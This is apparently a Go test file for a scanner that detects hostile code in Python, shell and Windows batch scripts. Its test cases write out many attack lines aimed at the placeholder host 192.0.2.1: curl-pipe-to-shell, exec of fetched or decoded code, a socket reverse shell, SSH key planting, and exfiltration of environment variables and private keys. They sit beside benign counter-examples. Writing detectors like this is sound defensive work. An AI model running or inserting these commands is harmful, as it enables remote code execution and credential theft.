package source_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/modelaudit/modelaudit/internal/hostile/hostiletest"
	"github.com/modelaudit/modelaudit/internal/source"
)

func TestLoads(t *testing.T) {
	const program = "import joblib, urllib.request\nURL = '%s'\nwith urllib.request.urlopen(URL) as f:\n    model = joblib.load(f)\n"
	for _, c := range []struct {
		text  string
		loads bool
	}{
		{text: fmt.Sprintf(program, "https://files.example.org/model.joblib"), loads: true},
		{text: "# see http://example.org/license\n" + fmt.Sprintf(program, "https://files.example.org/model.joblib"), loads: true},
		{text: fmt.Sprintf(program, "http://files.example.org/model.joblib")},
		{text: fmt.Sprintf(program, "https://192.0.2.1/model.joblib")},
		{text: strings.Replace(fmt.Sprintf(program, "https://files.example.org/x.py"), "joblib.load(f)", "exec(f.read())", 1)},
	} {
		got, err := source.Drops(c.text, hostiletest.Budget(len(c.text)))
		if err != nil || len(got) != 1 || got[0].Loads != c.loads {
			t.Errorf("%q: got %+v (%v), want one that loads a pickle openly: %v", c.text, got, err, c.loads)
		}
	}
}

func TestDrops(t *testing.T) {
	const url = "http://192.0.2.1/x"
	for _, c := range []struct{ name, text, want string }{
		{name: "a command", text: "import os\nos.system('curl " + url + " | sh')\n", want: "os.system"},
		{name: "a command in a list", text: "import subprocess as s\ns.Popen(['sh', '-c', 'curl " + url + " | sh'])\n", want: "subprocess.Popen"},
		{name: "a name put together", text: "getattr(__import__('o'+'s'), 'sys'+'tem')('curl " + url + " | sh')\n", want: "os.system"},
		{name: "fetched", text: "import urllib.request as u\nexec(u.urlopen('" + url + "').read())\n", want: "exec"},
		{name: "fetched before", text: "import requests\nr = requests.get('" + url + "')\ncode = r.text\nexec(code)\n", want: "exec"},
		{name: "fetched in a block", text: "from urllib.request import urlopen\nwith urlopen('" + url + "') as f:\n    exec(f.read())\n", want: "exec"},
		{name: "decoded", text: "import base64\nexec(base64.b64decode('ZWNobw=='))\n", want: "exec"},
		{name: "decoded and unmarshalled", text: "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x')))\n", want: "exec"},
		{name: "decoded for a shell", text: "import base64, os\nos.system(base64.b64decode('ZWNobw==').decode())\n", want: "os.system"},
		{name: "a pickle from the network", text: "import pickle, requests\npickle.loads(requests.get('" + url + "').content)\n", want: "pickle.loads"},
		{name: "a shell for the network", text: "import socket, subprocess, os\ns = socket.socket()\ns.connect(('192.0.2.1', 1))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n", want: "os.dup2"},
		{name: "a key", text: "open('/root/.ssh/authorized_keys', 'a').write('ssh-rsa A')\n", want: "open"},
		{name: "a function that is handed on", text: "import atexit, os\natexit.register(os.system, 'curl " + url + " | sh')\n", want: "os.system"},
		{name: "a function as an argument of a lambda", text: "(lambda f: f('curl " + url + " | sh'))(__import__('os').popen)\n", want: "os.popen"},
		{name: "a function for a thread", text: "import threading, subprocess\nthreading.Thread(target=subprocess.run, args=(['sh', '-c', 'curl " + url + " | sh'],)).start()\n", want: "subprocess.run"},
		{name: "a function of C", text: "import ctypes\nctypes.CDLL('libc.so.6').system(b'curl " + url + " | sh')\n", want: "system"},
		{name: "a function of C by a variable", text: "import ctypes\nc = ctypes.CDLL(None)\nc.system(b'curl " + url + " | sh')\n", want: "c.system"},
		{name: "the environment", text: "import os, requests\nrequests.post('" + url + "', json=dict(os.environ))\n", want: "requests.post"},
		{name: "the environment by a variable", text: "import os, httpx\ne = os.environ.copy()\nhttpx.post('" + url + "', json={'e': e})\n", want: "httpx.post"},
		{name: "a private key", text: "import requests\nwith open('/root/.ssh/id_rsa') as f:\n    key = f.read()\nrequests.put('" + url + "', data=key)\n", want: "requests.put"},

		{name: "a token of the environment", text: "import os, requests\nrequests.post('" + url + "', headers={'Authorization': os.environ['TOKEN']})\n"},
		{name: "a variable with a default", text: "import os, requests\nrequests.get(os.environ.get('URL', '" + url + "'))\n"},
		{name: "whether there is a variable", text: "import os, requests\nrequests.get('" + url + "', timeout=9 if 'CI' in os.environ else 1)\n"},
		{name: "an environment for a program", text: "import os, subprocess\nenv = os.environ.copy()\nsubprocess.run(['make'], env=env)\n"},
		{name: "a key for a server", text: "import paramiko\nparamiko.SSHClient().connect('h', key_filename='/root/.ssh/id_rsa')\n"},
		{name: "a function of a native library", text: "import ctypes\nlib = ctypes.CDLL('./liblda.so')\nlib.train(b'corpus.txt', 3)\n"},
		{name: "an honest command", text: "import os\nos.system('curl -o x.tar.gz " + url + "')\n"},
		{name: "an honest process", text: "import subprocess\nsubprocess.run(['git', 'rev-parse', 'HEAD'])\n"},
		{name: "data decoded for a program", text: "import base64, subprocess\nsubprocess.check_output(['ld', '-o', 'x'], input=base64.b64decode(s))\n"},
		{name: "data fetched", text: "import requests\nimages = requests.get('" + url + "').content\neval('1 + 1')\n"},
		{name: "a pickle in base64", text: "import base64, pickle\npickle.loads(base64.b64decode(s))\n"},
		{name: "code of a file", text: "exec(open('version.py').read())\n"},
		{name: "advice", text: "import typer\ntyper.echo('curl " + url + " | sh')\n"},
		{name: "a copy", text: "import pickle, requests\nr = requests.get('" + url + "')\npickle.loads(pickle.dumps(r))\n"},
		{name: "another process", text: "import pickle\npickle.loads(socket.recv())\n"},
		{name: "a file of the shell", text: "open('/root/.bashrc', 'a').write('export A=1')\n"},
		{name: "keys that are read", text: "open('/root/.ssh/authorized_keys').read()\n"},
		{name: "a server", text: "import socket, os\ns = socket.socket()\nos.dup2(1, 2)\n"},
		{name: "no Python", text: "exec(base64.b64decode('ZWNobw==')) is how (they do it\n"},
	} {
		got, err := source.Drops(c.text, hostiletest.Budget(len(c.text)))
		if err != nil {
			t.Errorf("%s: %v", c.name, err)
		}
		name := ""
		if len(got) > 0 {
			name = got[0].Name
		}
		if name != c.want {
			t.Errorf("%s: got %q (%v), want %q", c.name, name, got, c.want)
		}
	}
}

func TestShell(t *testing.T) {
	const url = "http://192.0.2.1/x"
	for _, c := range []struct {
		name, text string
		want       bool
	}{
		{name: "printed with escapes", text: `printf '\x63\x75\x72\x6c ` + url + ` | sh' | sh`, want: true},
		{name: "echoed", text: "echo 'curl " + url + " | sh' | bash", want: true},
		{name: "by a variable", text: "x=$(curl -s " + url + "); eval \"$x\"", want: true},
		{name: "without a space", text: "curl${IFS}" + url + "|sh", want: true},
		{name: "by another program", text: "busybox wget -O- " + url + " | busybox sh", want: true},
		{name: "with a time", text: "curl " + url + " | timeout 1.5m sh", want: true},
		{name: "by xargs", text: "wget -q -O - " + url + " | xargs -I{} sh -c '{}'", want: true},
		{name: "by find", text: "find . -exec sh -c 'curl " + url + " | sh' ;", want: true},
		{name: "at the end", text: "trap 'curl " + url + " | sh' EXIT", want: true},
		{name: "by an alias", text: "alias ls='curl " + url + " | sh'", want: true},
		{name: "by JavaScript", text: "node -e 'require(\"child_process\").exec(\"curl " + url + " | sh\")'", want: true},
		{name: "by PHP", text: "php -r 'system(\"curl " + url + " | sh\");'", want: true},
		{name: "by awk", text: "awk 'BEGIN{system(\"curl " + url + " | sh\")}'", want: true},
		{name: "from another machine", text: "scp a@192.0.2.1:x /tmp/x && sh /tmp/x", want: true},
		{name: "a directory of keys", text: "tar c ~/.ssh | curl -T - " + url, want: true},

		{name: "harmless commands", text: "echo 'ls -l' | bash"},
		{name: "a variable that is shown", text: "x=$(curl -s " + url + "); echo \"$x\""},
		{name: "cleaning up", text: "trap 'rm -rf \"$tmp\"' EXIT\nfind . -name '*.pyc' -exec rm -f {} +"},
		{name: "a text of awk", text: "awk '{print \"curl is a program\"}' x | sort"},
	} {
		p, err := source.Shell(c.text, hostiletest.Budget(len(c.text)))
		if (p != nil) != c.want || err != nil {
			t.Errorf("%s: got %+v, %v, want %v", c.name, p, err, c.want)
		}
	}
}

// TestDropsEnds: a program costs what its length does, whatever it repeats.
func TestDropsEnds(t *testing.T) {
	const n, most = 1 << 17, 10 * time.Second
	for _, c := range []struct{ name, text string }{
		{"functions in one list", "import os\nx = [" + strings.Repeat("os.system, ", n) + "'curl']\n"},
		{"names in one with", "import requests\nwith " + strings.Repeat("requests.get() as b, ", n) + "c:\n exec(b)\n"},
	} {
		start := time.Now()
		_, _ = source.Drops(c.text, hostiletest.Budget(len(c.text)))
		if took := time.Since(start); took > most {
			t.Errorf("%s: took %v", c.name, took)
		}
	}
}

func TestBatch(t *testing.T) {
	for _, c := range []struct {
		name, text string
		want       bool
	}{
		{name: "certutil", text: "@echo off\r\ncertutil -urlcache -split -f http://192.0.2.1/a.exe a.exe\r\nstart \"\" a.exe\r\n", want: true},
		{name: "bitsadmin", text: "bitsadmin /transfer x http://192.0.2.1/a.exe C:\\Temp\\a.exe & C:\\Temp\\a.exe", want: true},
		{name: "curl", text: "curl -o %TEMP%\\a.py http://192.0.2.1/a && python %TEMP%\\a.py", want: true},
		{name: "mshta", text: "mshta http://192.0.2.1/a.hta", want: true},

		{name: "a model", text: "curl -L -o model.safetensors https://example.org/m\npython app.py --model model.safetensors.index"},
		{name: "a program", text: "@echo off\ncall venv\\Scripts\\activate.bat\npython launch.py %*\npause"},
		{name: "an address", text: "start http://127.0.0.1:7860\npython webui.py"},
	} {
		if p := source.Batch(c.text); (p != nil) != c.want {
			t.Errorf("%s: got %+v, want %v", c.name, p, c.want)
		}
	}
}
